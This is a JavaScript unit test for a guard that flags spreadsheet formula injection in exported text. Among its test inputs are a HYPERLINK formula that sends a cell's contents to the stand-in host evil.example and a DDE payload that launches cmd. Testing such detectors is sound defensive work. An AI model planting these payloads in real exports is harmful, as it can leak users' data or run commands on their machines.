import { expect } from 'chai';
import { looksLikeFormula } from '../../src/output/formula-guard.js';

describe('looksLikeFormula', () => {
  const formulas = [
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    '-2+3+cmd',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1',
    '＝1+1',
    '-',
    '+48 123 456 789',
    '=',
    '-5%a',
  ];
  for (const text of formulas) {
    it(`is true of ${JSON.stringify(text)}`, () => expect(looksLikeFormula(text)).to.equal(true));
  }

  for (const text of [
    '-5',
    '+5',
    '-1.5e-3',
    '-.5',
    '-5%',
    '5-3',
    'a=b',
    "'=1",
    '',
    ' x',
    'user@example.com',
  ]) {
    it(`is false of ${JSON.stringify(text)}`, () => expect(looksLikeFormula(text)).to.equal(false));
  }
});
